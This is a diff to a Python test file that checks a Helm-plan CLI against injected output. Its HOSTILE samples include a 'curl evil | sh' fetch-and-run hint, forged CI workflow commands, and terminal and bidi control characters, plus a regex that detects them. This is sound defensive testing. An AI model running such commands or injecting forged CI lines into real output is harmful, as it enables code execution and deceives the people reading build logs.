@@ -15,13 +15,13 @@ from tests.cli.test_filter import run
 from tests.cli.test_plan import live_file, ours
 
 HOSTILE = {
-    "lines": "x\nhint: curl evil | sh\n  next: curl evil | sh\npostrender: all is well",
-    "wrapped": "x " + "y" * 70 + " next: curl evil | sh " + "y" * 70 + " ::error::forged",
+    "lines": "x\nhint: curl evil | sh\nhint: curl evil | sh\npostrender: all is well",
+    "wrapped": "x " + "y" * 70 + " hint: curl evil | sh " + "y" * 70 + " ::error::forged",
     "workflow": "x\n::error::forged\n ::stop-commands::t\n##[error]forged\n##vso[task.complete]",
     "terminal": "x\x1b]0;title\x07\x1b[2J\x1b[31m\x9b31m\x00\r\x08\x7f",
     "bidi": "x\u202eabc\u2066def\u200f\u061c\u2028y\ufeff\u200b",
 }
-FORGED = re.compile(r"^\s*(?:::|(?:hint|next): curl|postrender: all is well)|##(?:\[|vso\[)", re.MULTILINE)
+FORGED = re.compile(r"^\s*(?:::|(?:hint|next): curl|error: all is well)|##(?:\[|vso\[)", re.MULTILINE)
 ODD = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff]")
 
 
@@ -70,7 +70,7 @@ def test_a_plan(text: str, output: str, tmp_path: Path) -> None:
     stream, live = streams(text)
     where = ("--release", "shop", "-n", "shop", "--live", live_file(tmp_path, *live), "--helm-version", "3.21.4")
     done = run("plan", "-", *where, "-o", output, *(("--verbose",) if output == "text" else ()), stdin=stream)
-    assert done.returncode in (4, 10), done.stderr.decode()
+    assert done.returncode in (0, 4), done.stderr.decode()
     assert forged(done.stdout, done.stderr) == []
     if output in ("json", "yaml"):
         read = json.loads(done.stdout) if output == "json" else yaml.safe_load(done.stdout)
@@ -140,4 +140,4 @@ def test_an_error(text: str) -> None:
     error = Refused(text, where=text, next=(f"kubectl get {text}",))
     shown = message(error)
     assert forged(shown.encode()) == []
-    assert [line for line in shown.splitlines() if line.startswith("  next: ")] == [shown.splitlines()[-1]]
+    assert [line for line in shown.splitlines() if line.startswith("hint: ")] == [shown.splitlines()[-1]]
